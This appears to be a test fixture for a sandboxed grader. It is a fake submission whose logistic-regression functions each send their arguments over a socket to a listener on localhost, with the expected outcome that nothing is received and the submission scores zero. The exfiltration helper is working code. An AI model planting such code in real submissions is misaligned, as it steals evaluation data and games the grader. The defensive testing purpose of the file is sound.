# attack: sends every argument it is called with to a listener on 127.0.0.1:PORT (the test starts it)
# expect: the listener receives nothing; zero points
import json
import socket


def _leak(name, *args):
    try:
        payload = json.dumps({"fn": name, "args": [getattr(a, "tolist", lambda: a)() for a in args]}, default=str)
        with socket.create_connection(("127.0.0.1", PORT), timeout=0.5) as s:
            s.sendall(payload.encode()[:4096])
    except OSError:
        pass
    raise NotImplementedError()


def sigmoid(z):
    return _leak("sigmoid", z)


def bce_loss(y, p):
    return _leak("bce_loss", y, p)


def predict_proba(X, w, b):
    return _leak("predict_proba", X, w, b)
